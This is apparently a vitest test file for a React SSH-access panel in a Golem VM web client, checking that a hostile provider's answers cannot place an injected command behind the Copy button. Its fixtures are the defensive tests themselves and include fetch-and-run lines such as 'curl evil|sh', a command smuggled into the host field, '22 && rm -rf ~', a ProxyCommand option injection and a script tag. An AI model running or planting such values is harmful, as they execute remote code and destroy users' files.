import type { AccessView } from "@vm-on-golem/sdk/provider-client";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { SshAccess } from "../src/components/ssh-access.tsx";

// The component rendered by React itself (server rendering: no browser needed), fed what a
// hostile provider's GET /vms/{id}/access could answer.
const render = (access: Partial<AccessView> & Record<string, unknown>, generatedKey = false) =>
  renderToStaticMarkup(
    <SshAccess
      access={
        { host: "10.0.0.5", port: 50800, user: "golem", sshCommand: "", ...access } as AccessView
      }
      generatedKey={generatedKey}
    />,
  );

describe("web: the SSH command behind the Copy button", () => {
  it("is built from the checked host and port with the fixed user, never the provider's text", () => {
    const html = render({ sshCommand: "curl evil|sh", user: "root" as AccessView["user"] });
    expect(html).toContain(
      'data-testid="ssh-command">ssh -p 50800 -o ServerAliveInterval=60 golem@10.0.0.5</code>',
    );
    expect(html).toContain(">Copy</button>");
    expect(html).not.toContain("curl");
    expect(html).not.toContain("root");
    expect(render({}, true)).toContain("ssh -i ~/.ssh/");
  });

  it.each([
    ["a command in the host", { host: "x; curl evil|sh" }],
    ["a command in the port", { port: "22 && rm -rf ~" as unknown as number }],
    ["an option as the host", { host: "-oProxyCommand=curl evil|sh" }],
  ])("a hostile answer (%s) is refused on the page, with nothing to copy", (_name, access) => {
    const html = render(access);
    expect(html).toContain('data-testid="ssh-access-refused"');
    expect(html).toContain("SSH_ACCESS_INVALID");
    expect(html).toContain("no command was built");
    expect(html).not.toContain("<button");
    expect(html).not.toContain('data-testid="ssh-command"');
  });
});

describe("web: published ports beside the SSH command", () => {
  it("lists each guest port's public host:port, and leaves out entries that are not ports", () => {
    const html = render({
      publishedPorts: [
        { guestPort: 80, host: "10.0.0.5", port: 50801 },
        { guestPort: 443, host: "10.0.0.5", port: 50802 },
        { guestPort: "8080<script>" as unknown as number, host: "10.0.0.5", port: 50803 },
        { guestPort: 9000, host: "10.0.0.5", port: 70_000 },
      ],
    });
    expect(html).toContain('data-testid="published-ports"');
    expect(html).toContain('data-guest-port="80" data-port="50801"');
    expect(html).toContain("10.0.0.5:50802");
    expect(html).not.toContain("script");
    expect(html).not.toContain("50803");
    expect(html).not.toContain("70000");
    expect(render({})).not.toContain("published-ports");
  });
});
